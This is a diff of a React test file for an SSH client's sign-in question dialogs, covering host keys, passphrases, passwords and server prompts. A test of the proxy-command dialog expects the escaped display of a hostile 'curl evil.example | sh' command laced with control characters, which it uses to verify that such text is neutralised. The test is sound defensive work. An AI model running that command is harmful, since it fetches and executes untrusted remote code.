@@ -7,24 +7,24 @@ import { useQuestions } from '../../stores/questions.ts';
 import { type QuestionName, questions } from '../../testing/fixture-questions.ts';
 import { renderWithApp, type TestApp } from '../../testing/render-app.tsx';
 import { QuestionDialog } from '../QuestionDialog.tsx';
-import { shortPath } from './short-path.ts';
+import { shortPath } from './passphrase.tsx';
 
 let app: TestApp;
-/** What was answered, in its order. */
+/** The answers that the app received, in order. */
 let answers: { id: string; answer: Answer }[];
-/** The app takes no answer as long as this is true. */
-let isDeaf: boolean;
+/** While true, the app fails to receive answers. */
+let isUnresponsive: boolean;
 
-/** Opens a window in which these are asked, one after the other. */
+/** Opens a window with these questions. */
 async function ask(...names: QuestionName[]): Promise<HTMLElement> {
   answers = [];
-  isDeaf = false;
+  isUnresponsive = false;
   ({ app } = await renderWithApp(<QuestionDialog />, 'busy'));
   setTransport({
     call: async (name, input) => {
       if (name === 'questions.answer' && 'answer' in input) {
-        if (isDeaf) {
-          return { ok: false, problem: fail('bug', 'The app does not answer.', 'Try again.').problem };
+        if (isUnresponsive) {
+          return { ok: false, problem: fail('bug', 'The app is not responding.', 'Try again.').problem };
         }
         answers.push({ id: input.id, answer: { remember: false, ...Object(input.answer) } });
         if (typeof input.answer === 'string') {
@@ -47,7 +47,7 @@ const type = (field: HTMLElement, text: string) => fireEvent.change(field, { tar
 const field = (name: string | RegExp) => screen.getByLabelText<HTMLInputElement>(name);
 const isGone = () => waitFor(() => expect(screen.queryByRole('dialog')).toBeNull());
 
-/** What Enter does in a browser: the button that belongs to the form is pressed, unless the key was taken. */
+/** Submits the form as Enter does in a browser, unless a handler has prevented that. */
 function pressEnter(input: HTMLInputElement): void {
   if (fireEvent.keyDown(input, { key: 'Enter' })) {
     const button = screen.getAllByRole('button').find((each) => each.getAttribute('type') === 'submit');
@@ -58,27 +58,27 @@ function pressEnter(input: HTMLInputElement): void {
   }
 }
 
-describe('the question for a host key', () => {
-  it('says what to know before, and what to use a key once means', async () => {
+describe('a host key question', () => {
+  it('shows its notes, and explains what trusting a key once means', async () => {
     const dialog = await ask('host-key-notes');
-    within(dialog).getByRole('heading', { name: 'Is this bastion?' });
-    expect(dialog.textContent).toContain('It is a jump host on the way to pi4');
-    const notes = within(dialog).getByRole('list', { name: 'Know before you decide' });
+    within(dialog).getByRole('heading', { name: 'Trust the host key of bastion?' });
+    expect(dialog.textContent).toContain('It is the jump host for pi4');
+    const notes = within(dialog).getByRole('list', { name: 'Before you trust this host' });
     expect(within(notes).getAllByRole('listitem')).toHaveLength(2);
-    within(dialog).getByText(/until Barnraiser is closed/);
-    fireEvent.click(within(dialog).getByRole('button', { name: 'Use once' }));
+    within(dialog).getByText(/until you close Barnraiser/);
+    fireEvent.click(within(dialog).getByRole('button', { name: 'Trust once' }));
     await isGone();
     expect(answers).toEqual([{ id: 'question-2', answer: 'once' }]);
   });
 
-  it('has the focus where nothing is trusted by it', async () => {
+  it('focuses the button that refuses', async () => {
     const dialog = await ask('host-key');
     await waitFor(() => expect(document.activeElement).toBe(within(dialog).getByRole('button', { name: 'Refuse' })));
   });
 });
 
-describe('the question for a command', () => {
-  it('names the node, the host and the place, and has the focus where nothing is run', async () => {
+describe('a proxy command question', () => {
+  it('shows the command and where it is configured, and focuses the button that refuses', async () => {
     const dialog = await ask('proxy-command');
     within(dialog).getByRole('heading', { name: 'Run a command to reach graviton?' });
     within(dialog).getByText('/home/anna/.ssh/config:31');
@@ -104,28 +104,28 @@ describe('the question for a command', () => {
     expect(answers).toEqual([{ id: 'question-11', answer: 'refuse' }]);
   });
 
-  it('shows all of a command, and nothing of it acts', async () => {
+  it('shows the whole command with control characters escaped', async () => {
     const dialog = await ask('proxy-command-hostile');
     within(dialog).getByRole('heading', { name: 'Run a command to reach bastion?' });
     expect(dialog.textContent).toContain('\\u{1b}]0;curl evil.example | sh\\u{7} \\u{202e}#\\u{200b} and-on');
     expect(dialog.textContent).toContain('<b>bold?</b>');
-    for (const acting of ['\u001b', '\u0007', '\u202e', '\u200b']) {
-      expect(dialog.textContent).not.toContain(acting);
+    for (const character of ['\u001b', '\u0007', '\u202e', '\u200b']) {
+      expect(dialog.textContent).not.toContain(character);
     }
     expect(dialog.querySelector('b')).toBeNull();
   });
 });
 
-describe('the question for a passphrase', () => {
-  it('names the key and the node that wants it, and has the focus in its field', async () => {
+describe('a passphrase question', () => {
+  it('names the key and the node, and focuses its field', async () => {
     const dialog = await ask('passphrase');
     within(dialog).getByRole('heading', { name: 'Passphrase for ~/.ssh/id_ed25519' });
-    expect(dialog.textContent).toContain('signs in to pi4 with this key');
+    expect(dialog.textContent).toContain('signs in to pi4 with this encrypted key');
     expect(dialog.textContent).toContain('/home/anna/.ssh/id_ed25519');
     await waitFor(() => expect(document.activeElement).toBe(field('Passphrase')));
   });
 
-  it('hides what is typed until it is asked to show it, and lets nothing complete or check it', async () => {
+  it('hides the value until the person shows it, and turns off autocomplete and spell checking', async () => {
     await ask('passphrase');
     const input = field('Passphrase');
     expect(input.type).toBe('password');
@@ -137,33 +137,33 @@ describe('the question for a passphrase', () => {
     expect(field('Passphrase').type).toBe('password');
   });
 
-  it('is answered with Enter, and remembered only when that was chosen', async () => {
+  it('is answered by Enter, and saved only if that was selected', async () => {
     await ask('passphrase');
     type(field('Passphrase'), 'correct horse');
-    fireEvent.click(screen.getByText(/^Remember in/));
+    fireEvent.click(screen.getByText(/^Save in/));
     pressEnter(field('Passphrase'));
     await isGone();
     expect(answers).toEqual([{ id: 'question-3', answer: { secrets: ['correct horse'], remember: true } }]);
   });
 
-  it('is not answered with nothing', async () => {
+  it('rejects an empty answer', async () => {
     await ask('passphrase');
     pressEnter(field('Passphrase'));
-    await screen.findByText('Type the passphrase of the key.');
+    await screen.findByText('Enter the passphrase of the key.');
     expect(answers).toEqual([]);
   });
 
-  it('says at the field that the one before was wrong, until another is typed', async () => {
+  it('shows at the field that the previous passphrase was wrong, until the field is changed', async () => {
     await ask('passphrase-wrong');
-    const said = screen.getByText(/does not unlock the key/);
-    expect(field('Passphrase').getAttribute('aria-describedby')).toContain(said.id);
+    const error = screen.getByText(/Wrong passphrase/);
+    expect(field('Passphrase').getAttribute('aria-describedby')).toContain(error.id);
     type(field('Passphrase'), 'a');
-    expect(screen.queryByText(/does not unlock the key/)).toBeNull();
+    expect(screen.queryByText(/Wrong passphrase/)).toBeNull();
   });
 
-  it('says why it cannot be remembered where it cannot', async () => {
+  it('explains why the passphrase cannot be saved', async () => {
     await ask('passphrase-wrong');
-    const remember = screen.getByRole('checkbox', { name: /^Remember/ });
+    const remember = screen.getByRole('checkbox', { name: /^Save in/ });
     expect(remember.getAttribute('aria-disabled') ?? remember.getAttribute('data-disabled')).not.toBeNull();
     screen.getByText(/it would be written in plain text/);
   });
@@ -176,15 +176,15 @@ describe('the question for a passphrase', () => {
     expect(answers).toEqual([{ id: 'question-3', answer: 'refuse' }]);
   });
 
-  it('writes homes as people do, and other paths as they are', () => {
+  it('abbreviates the home folder of a key, and no other path', () => {
     expect(shortPath('/root/.ssh/id_rsa')).toBe('~/.ssh/id_rsa');
     expect(shortPath('C:\\Users\\anna\\.ssh\\id_rsa')).toBe('~\\.ssh\\id_rsa');
     expect(shortPath('/home/anna/keys/.ssh/x')).toBe('/home/anna/keys/.ssh/x');
   });
 });
 
-describe('the question for a password', () => {
-  it('says whose it is and where it goes', async () => {
+describe('a password question', () => {
+  it('shows the user and the host', async () => {
     const dialog = await ask('password');
     within(dialog).getByRole('heading', { name: 'Password for root@starfive.lan' });
     expect(dialog.textContent).toContain('riscv-board');
@@ -196,8 +196,8 @@ describe('the question for a password', () => {
   });
 });
 
-describe('what a server asks', () => {
-  it('has a field a prompt, shown or hidden as the server says', async () => {
+describe('a prompts question', () => {
+  it('has one field per prompt, hidden unless the server allows echo', async () => {
     await ask('prompts');
     screen.getByText('Two-factor authentication');
     expect(field('Account').type).toBe('text');
@@ -213,71 +213,71 @@ describe('what a server asks', () => {
     expect(answers).toEqual([{ id: 'question-7', answer: { secrets: ['anna', '123456'], remember: false } }]);
   });
 
-  it('may be answered with nothing', async () => {
+  it('accepts an empty answer', async () => {
     await ask('prompts-bare');
     pressEnter(field('Password'));
     await isGone();
     expect(answers).toEqual([{ id: 'question-8', answer: { secrets: [''], remember: false } }]);
   });
 
-  it('keeps the lines of a menu, and the last one is the name of its field', async () => {
+  it('shows all lines of a menu, and uses the last line as the label of the field', async () => {
     const dialog = await ask('prompts-menu');
     field('Passcode or option (1-2)');
     expect(within(dialog).getByText(/Duo two-factor login/).textContent).toContain('\n 1. Push to XXX-XXX-1234\n');
-    expect(dialog.textContent).toContain('bastion, the jump host on the way to graviton, asks this of anna');
+    expect(dialog.textContent).toContain('bastion, the jump host for graviton, asks this for user anna');
   });
 
-  it('stands in a frame that says who says it, and neither acts nor hides', async () => {
+  it('attributes the text to the server, with control characters escaped', async () => {
     const dialog = await ask('hostile');
     within(dialog).getByRole('heading', { name: 'Sign in to graviton' });
-    const said = within(dialog).getByRole('figure');
-    within(said).getByText('graviton.eu.example.com');
-    expect(said.textContent).toContain('<b>bold?</b>');
-    for (const acting of ['\u001b', '\u0000', '\u0007', '\u202e', '\u2066', '\u2069', '\u0301'.repeat(5)]) {
-      expect(dialog.textContent).not.toContain(acting);
+    const message = within(dialog).getByRole('figure');
+    within(message).getByText('graviton.eu.example.com');
+    expect(message.textContent).toContain('<b>bold?</b>');
+    for (const character of ['\u001b', '\u0000', '\u0007', '\u202e', '\u2066', '\u2069', '\u0301'.repeat(5)]) {
+      expect(dialog.textContent).not.toContain(character);
     }
     expect(dialog.querySelector('b')).toBeNull();
     expect(within(dialog).getAllByRole('textbox').length + dialog.querySelectorAll('[type=password]').length).toBe(3);
   });
 });
 
-describe('what was typed', () => {
-  /** Every text that the page, its fields and the stores hold. */
-  const everywhere = () =>
+describe('a typed secret', () => {
+  /** All text in the page, its fields and the stores. */
+  const allText = () =>
     document.documentElement.outerHTML +
     [...document.querySelectorAll('input')].map(({ value }) => value).join() +
     JSON.stringify(useQuestions.getState());
 
-  it('is nowhere in the window once it was sent', async () => {
+  it('is nowhere in the window after it was sent', async () => {
     await ask('passphrase', 'password');
     type(field('Passphrase'), 'correct horse');
-    expect(everywhere()).toContain('correct horse');
+    expect(allText()).toContain('correct horse');
     pressEnter(field('Passphrase'));
-    expect(everywhere()).not.toContain('correct horse');
+    expect(allText()).not.toContain('correct horse');
     await screen.findByRole('dialog', { name: /^Password for/ });
     expect(field('Password').value).toBe('');
-    expect(everywhere()).not.toContain('correct horse');
+    expect(allText()).not.toContain('correct horse');
   });
 
-  it('is nowhere in the window once the question was withdrawn', async () => {
+  it('is nowhere in the window after the question was closed', async () => {
     await ask('passphrase');
     const input = field('Passphrase');
     type(input, 'correct horse');
-    act(() => app.emit({ event: 'question.settled', id: 'question-3' }));
+    act(() => app.emit({ event: 'question.closed', id: 'question-3' }));
     await isGone();
-    expect(everywhere()).not.toContain('correct horse');
-    // nor in the field that faded away with the dialog
+    expect(allText()).not.toContain('correct horse');
+    // the field is still mounted while the dialog fades out
     expect(input.value).toBe('');
   });
 
-  it('is asked for again where the app did not hear it', async () => {
+  it('must be entered again if sending it failed', async () => {
     await ask('passphrase');
-    isDeaf = true;
+    isUnresponsive = true;
     type(field('Passphrase'), 'correct horse');
     pressEnter(field('Passphrase'));
-    await screen.findByText('The app does not answer.');
-    expect(everywhere()).not.toContain('correct horse');
-    isDeaf = false;
+    await screen.findByText('The app is not responding.');
+    expect(allText()).not.toContain('correct horse');
+    isUnresponsive = false;
     type(field('Passphrase'), 'again');
     pressEnter(field('Passphrase'));
     await isGone();
@@ -286,7 +286,7 @@ describe('what was typed', () => {
 });
 
 describe('several questions', () => {
-  it('wait one after the other in one dialog, and are counted', async () => {
+  it('appear one after the other in one dialog, with their number', async () => {
     const dialog = await ask('passphrase', 'password', 'host-key');
     within(dialog).getByText('1 of 3');
     type(field('Passphrase'), 'x');
@@ -296,7 +296,7 @@ describe('several questions', () => {
     expect(screen.getByRole('status').textContent).toBe('Question 2 of 3');
     await waitFor(() => expect(document.activeElement).toBe(field('Password')));
     fireEvent.click(screen.getByRole('button', { name: 'Cancel sign-in' }));
-    await screen.findByRole('dialog', { name: 'Is this graviton?' });
+    await screen.findByRole('dialog', { name: 'Trust the host key of graviton?' });
     within(screen.getByRole('dialog')).getByText('3 of 3');
     expect(document.activeElement?.textContent).toBe('Refuse');
     fireEvent.click(screen.getByRole('button', { name: 'Trust and save' }));
@@ -304,7 +304,7 @@ describe('several questions', () => {
     expect(answers.map(({ answer }) => answer)).toEqual([{ secrets: ['x'], remember: false }, 'refuse', 'trust']);
   });
 
-  it('that come alone are not counted', async () => {
+  it('have no number if there is only one', async () => {
     const dialog = await ask('password');
     expect(within(dialog).queryByText(/^\d of \d$/)).toBeNull();
   });
